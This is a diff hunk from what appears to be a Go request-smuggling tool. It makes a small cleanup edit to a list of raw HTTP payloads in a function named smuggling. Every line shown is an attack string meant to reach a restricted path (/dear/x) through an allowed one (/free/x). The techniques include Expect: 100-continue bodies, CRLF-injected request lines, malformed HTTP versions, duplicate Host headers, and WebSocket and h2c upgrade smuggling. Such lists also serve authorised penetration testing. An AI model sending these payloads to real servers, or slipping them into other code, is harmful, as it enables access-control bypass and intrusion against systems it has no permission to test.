@@ -130,7 +130,7 @@ func smuggling(r *raid) {
 		head + fmt.Sprintf("Expect: 100-continue\r\nContent-Length: %d\r\n\r\n%s", len(hidden), hidden),
 		head + "\r\n" + hidden,
 		strings.Replace(head, "/free/x", "/free/x HTTP/1.1\r\nX: y\r\n\r\nGET /dear/x", 1) + "\r\n",
-		fmt.Sprintf("GET /dear/x HTTP/1.0\r\n\r\n"), "GET /dear/x\r\n\r\n", "GET /dear/x HTTP/0.9\r\n\r\n", "GET /dear/x HTTP/2.0\r\n\r\n", "GET  /dear/x  HTTP/1.1\r\n\r\n",
+		"GET /dear/x HTTP/1.0\r\n\r\n", "GET /dear/x\r\n\r\n", "GET /dear/x HTTP/0.9\r\n\r\n", "GET /dear/x HTTP/2.0\r\n\r\n", "GET  /dear/x  HTTP/1.1\r\n\r\n",
 		fmt.Sprintf("\r\n\r\nGET /dear/x HTTP/1.1\r\nHost: %s\r\nHost: free\r\nConnection: close\r\n\r\n", r.host),
 		fmt.Sprintf("GET /dear/x HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n", r.host),
 		fmt.Sprintf("GET /dear/x HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", r.host),
